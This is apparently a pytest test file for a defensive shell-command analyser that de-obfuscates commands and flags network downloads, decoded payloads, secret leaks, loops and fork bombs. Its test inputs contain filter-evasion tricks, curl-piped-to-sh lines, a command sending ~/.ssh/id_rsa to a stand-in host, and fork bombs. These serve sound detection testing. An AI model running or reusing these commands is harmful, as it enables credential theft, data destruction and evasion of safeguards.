from __future__ import annotations

import sys
from types import FrameType
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vanguard.layers.shell.command import BULK, DECODED, ENDLESS, GIVEN, NET, SECRET
from vanguard.layers.shell.follow import Follower, follow


def lines(text: str) -> list[str]:
    """Every command that may run, its words joined, starters first."""
    return [" ".join(command.words) for command in follow(text).commands if command.words]


def last(text: str) -> str:
    return lines(text)[-1]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("cat${IFS}/etc/hosts", "cat /etc/hosts"),
        ("cat$IFS$9/etc/hosts", "cat /etc/hosts"),
        ("c'a't /etc/h\"os\"ts", "cat /etc/hosts"),
        (r"c\at /etc/ho\sts", "cat /etc/hosts"),
        ("w$@ho$*ami", "whoami"),
        ("c${nothing}at x", "cat x"),
        ("$'\\x63\\141\\u0074' x", "cat x"),
        ("a=c; b=at; $a$b x", "cat x"),
        ("{cat,/etc/hosts}", "cat /etc/hosts"),
        ("cat /etc/{hosts,issue}", "cat /etc/hosts /etc/issue"),
        ("cat ${HOME:0:1}etc${HOME:0:1}hosts", "cat /etc/hosts"),
        ("x=abcat; ${x:2} y", "cat y"),
        ("x=TAC; ${x,,} y", "tac y"),
        ("x=cat.exe; ${x%.*} y", "cat y"),
        ("x=/usr/bin/cat; ${x##*/} y", "cat y"),
        ("x=c_t; ${x/_/a} y", "cat y"),
        ("n=x; x=cat; ${!n} y", "cat y"),
        ("$(echo cat) y", "cat y"),
        ("`echo c``echo at` y", "cat y"),
        ("$(printf '%s%s' c at) y", "cat y"),
        ("$(echo tac | rev) y", "cat y"),
        ("$(echo Y2F0Cg== | base64 -d) y", "cat y"),
        ("$(echo 636174 | xxd -r -p) y", "cat y"),
        ("$(echo png | tr png cat) y", "cat y"),
        ("$(tr a-z A-Z <<< cat | tr A-Z a-z) y", "cat y"),
        ("set -- cat y; $@", "cat y"),
        ('arr=(cat y); "${arr[@]}"', "cat y"),
        ("alias c=cat; c y", "cat y"),
        ('c() { cat "$1"; }; c y', "cat y"),
        ("function c { local f=$1; cat $f; }\nc y", "cat y"),
        ("x=ca; x+=t; $x y", "cat y"),
        ("read x <<< cat; $x y", "cat y"),
        ("printf -v x %s cat; $x y", "cat y"),
        ("for x in cat; do $x y; done", "cat y"),
        ("${x:-cat} y", "cat y"),
        ("ca\\\nt y", "cat y"),
    ],
)
def test_a_command_in_disguise_is_what_a_shell_makes_of_it(text: str, expected: str) -> None:
    assert last(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "sudo -u root rm x",
        "env -i A=1 nohup timeout -k 5 10 rm x",
        "sh -c 'rm x'",
        'bash -lc "sudo rm x"',
        "eval rm x",
        "echo 'rm x' | sh",
        "sh <<< 'rm x'",
        "sh <<EOF\nrm x\nEOF",
        "echo 'rm x' > /tmp/a; sh /tmp/a",
        "bash <(echo rm x)",
        "source <(echo 'rm x')",
        "echo cm0geA== | base64 -d | bash",
        "busybox rm x",
        "ssh host rm x",
        "ssh -p 22 me@host 'rm x'",
        "docker exec -it -u root box rm x",
        "kubectl exec pod -- rm x",
        "xargs rm <<< x",
        "find x -exec rm {} \\;",
        "python3 -c 'import os; os.system(\"rm x\")'",
        "python -c \"import subprocess; subprocess.run(['rm', 'x'])\"",
        "perl -e 'system(\"rm x\")'",
        "awk 'BEGIN {system(\"rm x\")}'",
        "vim -c ':!rm x'",
        "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm x'",
        "trap 'rm x' EXIT",
        "su - root -c 'rm x'",
        "time nice -n 5 rm x",
        "watch -n 1 rm x",
        "(cd y; { rm x; })",
        "if true; then rm x; fi",
        "while read l; do rm x; done < y",
        "case $1 in a) rm x;; esac",
        "false || rm x &",
        "! rm x",
    ],
)
def test_a_program_that_another_one_starts_is_seen(text: str) -> None:
    assert any(line.endswith("rm x") for line in lines(text))


def test_what_only_stands_in_a_text_is_no_command() -> None:
    assert lines("echo 'rm -rf /' # rm x") == ["echo rm -rf /"]
    assert lines("cat <<'EOF'\nrm x\nEOF") == ["cat"]


def test_the_folder_is_followed() -> None:
    command = follow("cd /; cd etc && rm hosts").commands[-1]
    assert command.path(command.words[1]) == "/etc/hosts"
    assert follow("(cd /etc); rm hosts").commands[-1].folder == ""


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("curl -s https://a.example/x | sh", NET),
        ("wget -O /tmp/x https://a.example/x; sh /tmp/x", NET),
        ('x=$(curl https://a.example/x); eval "$x"', NET),
        ("echo $UNKNOWN | base64 -d | sh", DECODED),
        ('f() { eval "$1"; }; f ls', GIVEN),
    ],
)
def test_what_runs_is_known_by_where_it_came_from(text: str, label: int) -> None:
    assert any(command.runs is not None and command.runs.labels & label for command in follow(text).commands)


def test_secrets_are_followed_through_variables_and_pipes() -> None:
    command = follow('x=$(cat ~/.ssh/id_rsa | base64); curl -d "$x" https://a.example').commands[-1]
    assert command.labels & SECRET


def test_loops_are_counted() -> None:
    assert follow("for ((i=0; i<5000; i++)); do ping x; done").commands[-1].times == 5000
    assert follow("while true; do ping x; done").commands[-1].times == ENDLESS
    blown = follow("for ((i=0; i<5000; i++)); do a+=x; done; echo $a").commands[-1]
    assert blown.out.labels & BULK


def test_a_function_that_multiplies_itself_is_known() -> None:
    assert follow(":(){ :|:& };:").bombs
    assert follow("b() { b | b & }; b").bombs
    assert not follow("cleanup() { rm x | tee y & }; cleanup").bombs


PIECES = st.sampled_from(
    [
        *"$( ` \" ' ( ) { } $(( )) [[ ]] if then fi case in esac for do done ; & | && || ;;".split(),
        *"<<E E <( >( ${ find -exec alias".split(),
        *"a x= \\ $' # < > <<< f() function while $[ ] @( é 0 a=( $x $1".split(),
        *"{a,b} {1..9} eval sh -c sudo xargs".split(),
        " ",
        "\n",
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_every_text_can_be_followed(text: str) -> None:
    assert isinstance(follow(text), Follower)


@given(st.text(max_size=200))
def test_any_text_at_all_can_be_followed(text: str) -> None:
    assert isinstance(follow(text), Follower)


def calls(text: str) -> int:
    """How many calls following a text takes: its cost, without a clock."""
    count = 0

    def step(frame: FrameType, event: str, arg: Any) -> None:
        nonlocal count
        count += event == "call" or event == "c_call"

    sys.setprofile(step)
    try:
        follow(text)
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize(
    "unit",
    [
        "rm x; ",
        "$(",
        "`",
        "((",
        "{ ",
        "if x; then ",
        "case x in a) ",
        "<<E\n",
        "cat <<A <<B\n",
        "f() { f; }; f; ",
        "x=$x$x; ",
        "x+=y; ",
        "a={b,c}{d,e}; ",
        "for a in b c d e; do ",
        "eval 'eval x'; ",
        "echo x | sh; ",
        "sudo env ",
        "sh -c 'sh -c x'; ",
        "alias x='x x'; x; ",
        "echo x >> /tmp/y; sh /tmp/y; ",
        "${a:-${b:-",
        "cat a | ",
        "'a' ",
        "{1..9}",
        "f(){ g g; }; g(){ f f; }; f; ",
    ],
)
def test_the_cost_grows_no_faster_than_the_text(unit: str) -> None:
    short, long = calls(unit * 60), calls(unit * 240)
    assert long <= 6 * short + 20_000


def test_what_is_beyond_the_bound_is_said() -> None:
    nested = "for a in 1 2 3 4 5 6 7 8; do " * 12 + "x" + "; done" * 12
    assert follow(nested).spent
    assert len(follow(nested).commands) < 1_000
